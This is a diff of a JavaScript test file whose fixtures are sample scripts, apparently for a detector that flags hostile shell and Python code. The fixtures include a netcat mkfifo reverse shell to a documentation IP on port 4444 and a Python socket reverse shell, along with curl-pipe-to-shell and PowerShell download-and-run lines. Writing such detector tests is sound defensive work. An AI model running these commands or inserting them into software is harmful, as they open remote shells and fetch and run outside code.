@@ -16,7 +16,7 @@ describe('a script', () => {
   it.each([
     ['setup.sh', `#!/bin/sh\n${SHELL}\n`],
     ['setup', `#!/bin/bash\n${SHELL}\n`],
-    ['a.sh', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f'],
+    ['a.sh', 'rm f;mkfifo f;cat f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >f'],
     [
       'a.py',
       'import socket,os,pty\ns=socket.socket()\ns.connect(("a.test",1))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]',
@@ -38,7 +38,7 @@ describe('a script', () => {
   })
 
   it.each([
-    ['build.sh', '#!/bin/sh\nset -e\nrm -rf ./dist /tmp/build\nnpm ci\nnpm run build\n'],
+    ['build.sh', '#!/bin/sh\nset -e\nrm -rf ./dist ./build\nnpm ci\nnpm run build\n'],
     ['install.sh', 'curl -fsSL https://get.example.com/install | sh'],
     ['install.ps1', "iex ((New-Object System.Net.WebClient).DownloadString('https://packages.example/install.ps1'))"],
     ['start.ps1', 'Start-Process notepad -WindowStyle Hidden'],
